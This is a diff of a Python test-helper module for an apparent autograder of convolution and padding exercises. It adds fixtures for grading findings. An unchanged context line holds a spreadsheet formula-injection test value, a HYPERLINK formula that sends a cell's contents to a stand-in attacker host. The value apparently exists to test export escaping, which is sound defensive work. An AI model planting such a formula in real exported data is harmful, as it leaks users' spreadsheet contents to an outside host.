@@ -8,6 +8,7 @@ from typing import Any
 from grader.records.attempt import Student
 from grader.records.gradebook import ClassReport, Row
 from grader.records.graded_with import DeckInfo
+from grader.records.report import FindingSummary
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"Doe, Jane")',
@@ -38,6 +39,20 @@ def graded(who: Student, earned: int, possible: int = 100, **changes: Any) -> Ro
         possible={"pad/basic": possible // 2, "conv2d/stride": possible - possible // 2},
         **changes,
     )
+
+
+def told(
+    headline: str, check: str = "conv2d/stride", points: int = 0, **changes: Any
+) -> FindingSummary:
+    """A finding of one check."""
+    given = {"checks": (check,), "points": points, "explained": True, **changes}
+    operation = check.partition("/")[0]
+    return FindingSummary(operation=operation, headline=headline, verdict="wrong value", **given)
+
+
+STRIDE = told("Your window moves one cell at a time", points=5)
+AXES = told("Your code pads rows", "pad/axes", 2, certain=False, explained=False)
+"""What two findings are told as, of which one is sure."""
 
 
 def class_of(*rows: Row) -> ClassReport:
